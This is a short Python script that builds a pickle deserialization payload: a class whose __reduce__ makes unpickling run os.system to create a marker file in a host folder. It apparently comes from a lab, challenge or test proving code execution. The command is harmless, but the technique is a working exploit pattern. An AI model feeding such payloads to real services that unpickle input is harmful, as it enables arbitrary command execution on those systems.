import os
import pickle
import sys

from aim import HOST_FOLDER, MARK


class Command:
    def __reduce__(self):
        return (os.system, (f"touch {HOST_FOLDER}/{MARK}",))


answer = Command()
sys.stdout.buffer.write(pickle.dumps(answer))
print(repr(pickle.dumps(answer)))
